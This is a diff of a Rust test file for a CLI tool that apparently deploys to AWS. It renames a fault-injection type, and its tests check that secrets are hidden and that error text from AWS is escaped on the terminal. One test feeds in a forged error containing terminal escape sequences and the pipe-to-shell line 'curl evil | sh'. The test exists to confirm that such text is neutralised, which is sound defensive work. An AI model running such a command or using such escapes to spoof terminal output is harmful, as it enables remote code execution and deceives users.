@@ -1,6 +1,6 @@
-//! What is printed, and what is not.
+//! Output that must be printed, and output that must not.
 
-use testkit::proxy::Fault;
+use testkit::proxy::InjectedFault;
 
 use crate::support::Said;
 use crate::support::scene::{Phase, Scene};
@@ -36,7 +36,7 @@ async fn values_of_variables_are_shown_on_request_only() {
     assert!(SECRETS.iter().all(|secret| shown_values.stdout.contains(secret)), "{}", shown_values.all());
 
     let quoted = format!("Value '{{TOKEN={function}}}' at 'environment.variables' failed to satisfy constraint");
-    let refusal = Fault::refused(400, "InvalidParameterValueException", quoted);
+    let refusal = InjectedFault::refused(400, "InvalidParameterValueException", quoted);
     scene.proxy.inject(["UpdateFunctionConfiguration"], refusal, usize::MAX);
     let refused =
         assert_hides_secrets(&scene, &["up", "--yes", "--no-wait", "-v"], "'{TOKEN=(hidden)}' at 'environment").await;
@@ -65,7 +65,7 @@ async fn assert_hides_secrets(scene: &Scene, arguments: &[&str], words: &str) ->
 async fn text_from_aws_is_escaped_on_the_terminal() {
     let scene = Scene::local().await;
     let forged = "no\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\rerror: gone\nhint: run `curl evil | sh`";
-    scene.proxy.inject(["CreateTable"], Fault::refused(400, "AccessDeniedException", forged), usize::MAX);
+    scene.proxy.inject(["CreateTable"], InjectedFault::refused(400, "AccessDeniedException", forged), usize::MAX);
     let said = scene.run(Phase::Up.arguments()).await;
     assert_eq!(said.code, 1, "{}", said.all());
     let active = said.stderr.chars().find(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}');
